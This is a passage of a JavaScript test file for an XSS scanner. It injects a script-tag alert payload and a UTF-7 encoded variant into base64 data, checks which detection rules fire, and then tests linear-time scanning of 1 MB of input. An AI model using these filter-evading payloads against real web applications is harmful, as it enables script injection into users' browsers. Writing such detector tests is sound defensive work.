  const plain = run(blob.slice(0, 50_000) + '<script>alert(1)</script>' + blob.slice(50_000), 3).map((f) => f.ruleId).sort();
  assert.deepEqual(plain, ['xss-js-sink', 'xss-script-tag']);
  const utf7 = run(blob.slice(0, 50_000) + '+ADw-script+AD4-alert(1)+ADw-/script+AD4-' + blob.slice(50_000), 3);
  assert.deepEqual(utf7.map((f) => f.ruleId).sort(), ['xss-js-sink', 'xss-script-tag']);
  assert.deepEqual(run(blob, 3), []);
});

test('linear time on 1 MB of base64 (a `+` every 64 characters or so)', () => {
  const blob = base64Blob(750_000);
  run(blob.slice(0, 5000), 3);
  let ms = Infinity;
  for (let k = 0; k < 10 && ms >= 50; k++) { // best of up to ten, in CPU time
    const start = process.cpuUsage();
    run(blob, 3);
    const used = process.cpuUsage(start);
    ms = Math.min(ms, (used.user + used.system) / 1000);
  }
  assert.ok(ms < 100, `1 MB of base64 took ${ms.toFixed(1)} ms`);
});
